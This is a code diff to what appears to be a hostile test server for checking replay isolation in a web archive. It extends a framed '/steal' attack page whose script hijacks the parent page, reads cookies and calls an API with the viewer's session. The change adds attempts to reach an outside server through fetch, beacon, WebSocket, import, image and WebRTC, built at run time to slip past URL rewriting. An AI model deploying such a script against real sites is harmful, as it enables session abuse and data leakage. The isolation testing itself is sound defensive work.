@@ -24,7 +24,9 @@ it got and say why it stopped:
   test that a capture's browser sends no UDP of its own;
 * ``/steal?app=ORIGIN``: a page whose script, once framed (as in a replay),
   tries to rewrite its parent, read cookies and call ``ORIGIN/api/v1/…`` with
-  the viewer's session, for the replay isolation tests.
+  the viewer's session, for the replay isolation tests; with ``&out=ORIGIN`` it
+  also tries to reach ``ORIGIN`` (a server outside the replay) by fetch, beacon,
+  WebSocket, dynamic import, image and WebRTC (STUN on the same port).
 
 ``bench.example-trap.cn`` (same ports) serves a generated catalogue of
 Chinese product pages for benchmarks: ``/page/N`` (N ≥ 0) with an image
@@ -149,6 +151,8 @@ _STEAL_JS = """
 <pre id="log"></pre>
 <script>
 const APP = %s;
+const OUT_HOST = %s;  // host:port, made a URL at run time (past pywb's rewriting)
+const OUT = OUT_HOST && ['http:', '', OUT_HOST].join('/');
 const log = (s) => { document.getElementById('log').textContent += s + '\\n'; };
 if (window.parent !== window) {
   try { parent.document.body.innerHTML = '<h1>HIJACKED</h1>'; log('parent: changed'); }
@@ -163,15 +167,40 @@ if (window.parent !== window) {
   x.open('GET', APP + '/api/v1/targets' + from); x.withCredentials = true;
   x.onerror = () => log('xhr: blocked'); x.send();
   new Image().src = APP + '/api/v1/me' + from + '&via=img';
+  if (OUT) {
+    // The live web, by every road there is.
+    const out = (road) => OUT + '/' + road + from;
+    const tries = {
+      fetch: () => fetch(out('fetch'), {mode: 'no-cors'}),
+      beacon: () => navigator.sendBeacon(out('beacon'), 'x'),
+      socket: () => new WebSocket(out('socket').replace(/^http/, 'ws')),
+      import: () => import(out('import')),
+      image: () => { const i = document.createElement('img'); i.src = out('image'); },
+      webrtc: () => {
+        const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:' + OUT_HOST}]});
+        pc.createDataChannel('x');
+        return pc.createOffer().then((o) => pc.setLocalDescription(o));
+      },
+    };
+    for (const [road, attempt] of Object.entries(tries)) {
+      try {
+        Promise.resolve(attempt()).catch(() => log(road + ': refused'));
+      } catch (e) { log(road + ': refused'); }
+    }
+  }
 }
+log('attacks: sent');
 </script>
 """
 
 
-def steal_page(app: str) -> Response:
-    """The framed-script attack page; ``app`` is embedded as a JSON string literal."""
-    literal = json.dumps(app).replace("<", "\\u003c")
-    body = f'<h1>脚本陷阱</h1><p id="marker">{STEAL_MARKER}</p>' + _STEAL_JS % literal
+def steal_page(app: str, out: str = "") -> Response:
+    """The framed-script attack page; ``app`` and ``out`` are embedded as JSON string
+    literals."""
+    out_host = out.split("//", 1)[-1]
+    app_literal, out_literal = (json.dumps(x).replace("<", "\\u003c") for x in (app, out_host))
+    body = f'<h1>脚本陷阱</h1><p id="marker">{STEAL_MARKER}</p>'
+    body += _STEAL_JS % (app_literal, out_literal)
     return _page("脚本陷阱", body)
 
 
@@ -292,7 +321,7 @@ class HostileService:
             port = request.arg("stun", "3478")
             return _page("WebRTC", _WEBRTC_JS.replace("STUN_PORT", str(int(port))))
         if path == "/steal":
-            return steal_page(request.arg("app", "http://127.0.0.1"))
+            return steal_page(request.arg("app", "http://127.0.0.1"), request.arg("out", ""))
         if path == "/popup":
             return _page("弹窗", _POPUP_JS)
         if path == "/popup/child":
